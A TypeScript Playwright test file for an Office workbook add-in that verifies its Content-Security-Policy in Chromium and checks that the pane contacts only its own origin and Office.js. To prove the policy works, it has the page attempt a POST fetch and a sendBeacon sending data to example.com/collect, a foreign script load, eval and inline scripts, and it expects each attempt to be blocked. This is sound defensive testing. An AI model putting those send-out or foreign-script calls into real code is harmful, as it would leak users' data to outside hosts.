/**
 * Nothing leaves the workbook, and nobody else's code gets into the pane: the built page's Content-Security-Policy is tried out in Chromium, and the addresses that the pane
 * asks for during a day's work are counted.
 */
import { readFileSync } from 'node:fs';
import { join } from 'node:path';
import type { Browser, BrowserContext, BrowserContextOptions, Frame } from 'playwright-core';
import { launchBrowser, type OpenedPane } from '../host/browser/open-pane';
import { HOST_ORIGIN, PANE_ORIGIN } from '../host/browser/host-page';
import { openBuiltPane, runCommand, tab } from './pane-driver';
import { sampleWorkbook } from './sample-workbook';

const library = 'https://appsforoffice.microsoft.com';
const page = readFileSync(join(__dirname, '../../dist/pane/taskpane.html'), 'utf8');

let browser: Browser;
let pane: OpenedPane;

beforeAll(async () => {
  browser = await launchBrowser();
});
afterAll(() => browser.close());

/** The sources that the page's policy allows for one kind of thing. */
function allowed(kind: string): string[] {
  const policy = /http-equiv="?Content-Security-Policy"?\s+content="([^"]+)"/.exec(page)![1];
  const directive = policy
    .split(';')
    .map((part) => part.trim().split(/\s+/))
    .find(([name]) => name === kind);
  return directive?.slice(1) ?? [];
}

/** What the browser refused, by the directive that refused it, when the page itself does something; `reached` is set by what must not run. */
async function refusedWhen(
  frame: Frame,
  act: 'eval' | 'inlineScript' | 'inlineHandler' | 'foreignScript' | 'foreignFetch' | 'foreignImage' | 'foreignFrame' | 'beacon',
): Promise<{ refused: string[]; reached: boolean }> {
  return frame.evaluate(async (what) => {
    const scope = window as unknown as { reached?: boolean };
    scope.reached = false;
    const refused: string[] = [];
    const note = (event: SecurityPolicyViolationEvent): void => void refused.push(event.effectiveDirective);
    document.addEventListener('securitypolicyviolation', note);
    const added = (element: HTMLElement): void => document.body.append(element);
    // From a timer, so that the page does it and not the test's own channel, which is above the policy.
    await new Promise<void>((done) =>
      setTimeout(() => {
        const element = document.createElement(
          what === 'foreignImage' ? 'img' : what === 'foreignFrame' ? 'iframe' : what === 'inlineHandler' ? 'div' : 'script',
        );
        if (what === 'eval') {
          try {
            (0, window['eval'])('window.reached = true');
          } catch {
            // Told by the event.
          }
        } else if (what === 'foreignFetch')
          void fetch('https://example.com/collect', { method: 'POST', body: 'ledger' }).catch(() => undefined);
        else if (what === 'beacon') navigator.sendBeacon('https://example.com/collect', 'ledger');
        else if (what === 'inlineHandler') {
          element.setAttribute('onclick', 'window.reached = true');
          added(element);
          element.click();
        } else if (what === 'inlineScript') {
          element.textContent = 'window.reached = true';
          added(element);
        } else {
          element.setAttribute('src', 'https://example.com/x.js');
          added(element);
        }
        setTimeout(done, 200);
      }),
    );
    document.removeEventListener('securitypolicyviolation', note);
    return { refused, reached: Reflect.get(scope, 'reached') === true };
  }, act);
}

describe('the policy that stands in the page', () => {
  it('allows scripts of the add-in and Office.js, none that stand in the page, and no eval', () => {
    expect(allowed('default-src')).toEqual(["'none'"]);
    expect(allowed('script-src')).toEqual(["'self'", library]);
    expect(allowed('worker-src')).toEqual(["'self'"]);
    expect(page).not.toMatch(/<script(?![^>]*\ssrc=)[^>]*>/);
    expect(page).not.toMatch(/\son[a-z]+=/);
  });

  it('lets the page talk to its own origin only', () => {
    for (const kind of ['connect-src', 'font-src']) expect(allowed(kind)).toEqual(["'self'"]);
    expect(allowed('img-src')).toEqual(["'self'", 'data:']);
    expect([allowed('base-uri'), allowed('form-action')]).toEqual([["'none'"], ["'none'"]]);
  });
});

describe('a page under that policy', () => {
  afterEach(() => pane.close());

  it.each([
    ['eval', 'script-src'],
    ['inlineScript', 'script-src-elem'],
    ['inlineHandler', 'script-src-attr'],
    ['foreignScript', 'script-src-elem'],
    ['foreignFetch', 'connect-src'],
    ['beacon', 'connect-src'],
    ['foreignImage', 'img-src'],
    ['foreignFrame', 'default-src|frame-src'],
  ] as const)('refuses %s', async (act, directive) => {
    pane = await openBuiltPane({ browser });
    const { refused, reached } = await refusedWhen(pane.frame, act);
    expect(refused.join()).toMatch(new RegExp(`^(${directive})$`));
    expect(reached).toBe(false);
    expect(pane.traffic.refused).toEqual([]);
  });
});

/** The browser, telling the address of each request of its pages from the first on. */
function listeningTo(asked: string[]): Browser {
  const newContext = async (options?: BrowserContextOptions): Promise<BrowserContext> => {
    const context = await browser.newContext(options);
    context.on('request', (request) => asked.push(request.url()));
    return context;
  };
  return { newContext } as Partial<Browser> as Browser;
}

it('the pane asks for nothing beyond its own origin and Office.js while it works', async () => {
  const asked: string[] = [];
  pane = await openBuiltPane({ browser: listeningTo(asked), workbook: await sampleWorkbook() });
  expect(await runCommand(pane, 'Adjust Cost - Item Entries', { 'Work Date': '2026-03-31' })).toContain('Done');
  await tab(pane, 'Workbook');
  const origins = new Set(asked.filter((address) => !address.startsWith('data:')).map((address) => new URL(address).origin));
  expect([...origins].sort()).toEqual([library, PANE_ORIGIN, HOST_ORIGIN].sort());
  expect(asked.filter((address) => address.startsWith(library) && !address.startsWith(`${library}/lib/1/hosted/`))).toEqual([]);
  expect(pane.traffic).toEqual({ refused: [], missing: [] });
  expect(pane.errors).toEqual([]);
  await pane.close();
});
